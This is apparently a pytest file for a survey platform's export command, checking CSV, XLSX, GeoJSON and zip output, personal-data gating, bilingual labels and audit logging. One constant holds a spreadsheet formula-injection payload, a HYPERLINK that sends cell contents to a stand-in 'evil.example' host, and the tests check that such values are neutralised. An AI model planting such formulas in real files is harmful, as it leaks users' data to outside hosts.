"""Round trips through `willay export`: what a coordinator opening the file would find."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl

from server.extensions import db
from server.places.models import Place

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ver")'  # as stored by tests/exports/conftest


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def by_community(rows: list[dict]) -> dict[str, dict]:
    return {row["community"]: row for row in rows}


def test_csv_has_bom_accents_neutralised_formulas_and_no_personal_data(seeded, export):
    data = export("--survey", "moq-household")
    rows = read_csv(data)
    assert len(rows) == 2  # the resident feedback belongs to another survey
    first = by_community(rows)["Añaschaca Ñuñunhuayo"]
    assert first["_district"] == "Moquegua" and first["_province"] == "Mariscal Nieto"
    assert first["_department"] == "Moquegua" and first["_district_ubigeo"] == "180101"
    assert first["_survey"] == "moq-household" and first["_version"] == "1"
    assert first["_completed_at"] == "2026-11-20T14:20:00-05:00"
    assert first["_received_at"].endswith("-05:00")
    assert first["water_problems"] == "tank pipe"
    assert first["_status"] == "new" and first["_channel"] == "device"
    assert first["_consent"] == "true"
    # the formula comes back as text with a protective apostrophe, never runnable
    assert by_community(rows)["'" + FORMULA]["household_size"] == "7"
    assert "\r\n" in data.decode("utf-8-sig")  # Excel's line ends
    text = data.decode("utf-8-sig")
    assert "María" not in text and "987654321" not in text and "-17.19" not in text
    assert "respondent_name" not in rows[0] and "_latitude" not in rows[0]


def test_personal_data_only_when_asked(seeded, export):
    rows = by_community(read_csv(export("--survey", "moq-household", "--personal")))
    first = rows["Añaschaca Ñuñunhuayo"]
    assert first["respondent_name"] == "María Quispe"
    assert first["respondent_phone"] == "987654321"
    assert (first["_latitude"], first["_longitude"]) == ("-17.19", "-70.93")


def test_numbers_stay_numbers_and_negative_numbers_are_not_touched(seeded, export):
    data = export("--survey", "moq-household", "--personal").decode("utf-8-sig")
    line = next(line for line in data.splitlines() if "Añaschaca" in line)
    assert ",-17.19,-70.93," in line  # unquoted, no apostrophe: Excel reads numbers


def test_labels_in_quechua_and_spanish(seeded, export):
    qu = read_csv(export("--survey", "moq-household", "--labels", "qu"))
    headers = list(qu[0])
    assert "¿Mayqin distritupitaq kay wasi kachkan?" in headers
    water = "¿Upyanapaq, wayk'unapaqpas maymantataq aswanta yakuta hurqunkichik?"
    assert {row[water] for row in qu} == {"Wasi ukhupi kañu"}
    es = read_csv(export("--survey", "moq-household", "--labels", "es"))
    row = next(r for r in es if r["¿Cómo se llama la comunidad o el anexo?"].startswith("Aña"))
    assert row["¿En qué distrito está este hogar?"] == "Moquegua"
    assert row["Distrito"] == "Moquegua" and row["Provincia"] == "Mariscal Nieto"
    assert row["Estado"] != "new" and row["Idioma"] != "qu"


def test_filters_apply(seeded, export):
    rows = read_csv(export("--survey", "moq-household", "--place", "180200"))
    assert [r["_district_ubigeo"] for r in rows] == ["180201"]
    assert read_csv(export("--survey", "moq-household", "--language", "es"))[0][
        "_district_ubigeo"] == "180201"
    assert read_csv(export("--status", "verified")) == []
    everything = read_csv(export())
    assert len(everything) == 3 and "community" not in everything[0]  # metadata only
    public = read_csv(export("--channel", "public"))
    assert [r["_survey"] for r in public] == ["moq-feedback"]


def test_xlsx_opens_with_typed_cells(seeded, export, tmp_path):
    path = tmp_path / "export.xlsx"
    path.write_bytes(export("--survey", "moq-household", "--format", "xlsx", "--labels", "es"))
    sheet = openpyxl.load_workbook(path, read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert len(data) == 2
    community = header.index("¿Cómo se llama la comunidad o el anexo?")
    size = header.index("¿Cuántas personas viven en este hogar?")
    by_name = {row[community]: row for row in data}
    assert set(by_name) == {"Añaschaca Ñuñunhuayo", FORMULA}  # text, not a formula
    assert by_name[FORMULA][size] == 7 and isinstance(by_name[FORMULA][size], int)


def test_xlsx_continues_on_a_second_sheet_past_the_row_limit(seeded, export, tmp_path,
                                                             monkeypatch):
    from server.exports import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 2)  # a header and one row per sheet
    path = tmp_path / "export.xlsx"
    path.write_bytes(export("--format", "xlsx"))
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["data", "data2", "data3"]
    assert all(len(list(sheet.iter_rows())) == 2 for sheet in book.worksheets)


def test_geojson_points_at_the_district_capital_unless_personal(seeded, export, app):
    collection = json.loads(export("--survey", "moq-household", "--format", "geojson"))
    assert collection["type"] == "FeatureCollection" and len(collection["features"]) == 2
    with app.app_context():
        capital = db.session.get(Place, "180101")
        expected = [capital.longitude, capital.latitude]
    feature = next(f for f in collection["features"]
                   if f["properties"]["_district_ubigeo"] == "180101")
    assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Point"
    assert feature["geometry"]["coordinates"] == expected
    assert feature["properties"]["_location"] == "district"
    assert "respondent_name" not in feature["properties"]
    assert feature["properties"]["water_problems"] == ["tank", "pipe"]
    exact = json.loads(export("--survey", "moq-household", "--format", "geojson",
                              "--personal"))
    feature = next(f for f in exact["features"]
                   if f["properties"]["_district_ubigeo"] == "180101")
    assert feature["geometry"]["coordinates"] == [-70.93, -17.19]
    assert feature["properties"]["_location"] == "exact"


def test_json_lines(seeded, export):
    lines = export("--survey", "moq-feedback", "--format", "jsonl").decode().splitlines()
    assert len(lines) == 1
    record = json.loads(lines[0])
    assert record["comment"] == "Yaku mana chayamunchu" and record["rating"] == 2
    assert record["_channel"] == "public" and record["_district_ubigeo"] == "180301"
    assert "phone" not in record


def test_zip_holds_the_data_and_its_photos(seeded, export):
    archive = zipfile.ZipFile(io.BytesIO(export("--survey", "moq-household", "--media")))
    names = archive.namelist()
    photo = f"media/{seeded['sha']}.jpg"
    assert photo in names and archive.read(photo) == seeded["photo"]
    data_name = next(n for n in names if n.endswith(".csv"))
    rows = by_community(read_csv(archive.read(data_name)))
    assert rows["Añaschaca Ñuñunhuayo"]["problem_photo"] == photo
    assert archive.testzip() is None


def test_every_export_is_audited(seeded, export, app):
    from server.audit.models import AuditEvent

    export("--survey", "moq-household", "--personal", "--place", "180100")
    with app.app_context():
        event = db.session.scalars(db.select(AuditEvent).where(
            AuditEvent.action == "export")).one()
        assert event.actor == "cli" and event.user_id is None
        assert event.target == "moq-household"
        assert event.details["rows"] == 1 and event.details["completed"] is True
        assert event.details["personal"] is True and event.details["format"] == "csv"
        assert event.details["filters"] == {"survey": "moq-household", "place": "180100"}


def test_bad_requests_are_refused_clearly(seeded, export):
    assert "no-such-survey" in export("--survey", "no-such-survey", expect_ok=False).decode()
    assert "--status" in export("--status", "lost", expect_ok=False).decode()


def test_zip_with_a_workbook_inside(seeded, export, tmp_path):
    archive = zipfile.ZipFile(io.BytesIO(export("--survey", "moq-household", "--media",
                                                "--format", "xlsx")))
    data_name = next(n for n in archive.namelist() if n.endswith(".xlsx"))
    path = tmp_path / "inside.xlsx"
    path.write_bytes(archive.read(data_name))
    rows = list(openpyxl.load_workbook(path, read_only=True).worksheets[0].iter_rows(
        values_only=True))
    photo_column = rows[0].index("problem_photo")
    assert f"media/{seeded['sha']}.jpg" in {row[photo_column] for row in rows[1:]}


def test_choice_codes_that_look_like_formulas_are_neutralised_too(app, client, device_headers,
                                                                  export):
    """Choice codes may begin with "-" ("-A1-B1" is a formula to Excel): codes are not
    trusted either."""
    import uuid

    from server.surveys.services import publish_definition

    definition = {
        "title": {"es": "Códigos"}, "languages": ["es"],
        "pages": [{"id": "p1", "questions": [
            {"id": "district", "type": "place", "required": True, "label": {"es": "Distrito"}},
            {"id": "pick", "type": "select_one", "required": True, "label": {"es": "Elige"},
             "choices": [{"value": "-A1-B1", "label": {"es": "Menos"}}]}]}]}
    with app.app_context():
        publish_definition("codes", definition, for_promoters=True)
    item = {"uuid": str(uuid.uuid4()), "survey": "codes", "version": 1,
            "answers": {"district": "180101", "pick": "-A1-B1"}, "meta": {"language": "es"}}
    outcome = client.post("/api/v1/submissions", json={"submissions": [item]},
                          headers=device_headers).get_json()["results"][0]["outcome"]
    assert outcome == "stored"
    [row] = read_csv(export("--survey", "codes"))
    assert row["pick"] == "'-A1-B1"


def test_coordinates_are_written_to_6_decimals(client, demo, device_headers, export):
    from helpers import household_item

    noisy = household_item(answers={"community": "Yacango"})
    noisy["meta"]["location"] = {"lat": -17.193412345678912, "lon": -70.93501234567891,
                                 "accuracy": 8.5}
    response = client.post("/api/v1/submissions", json={"submissions": [noisy]},
                           headers=device_headers)
    assert response.get_json()["results"][0]["outcome"] == "stored"
    row = read_csv(export("--survey", "moq-household", "--personal"))[0]
    assert (row["_latitude"], row["_longitude"]) == ("-17.193412", "-70.935012")
    geo = json.loads(export("--survey", "moq-household", "--personal", "--format", "geojson"))
    assert geo["features"][0]["geometry"]["coordinates"] == [-70.935012, -17.193412]
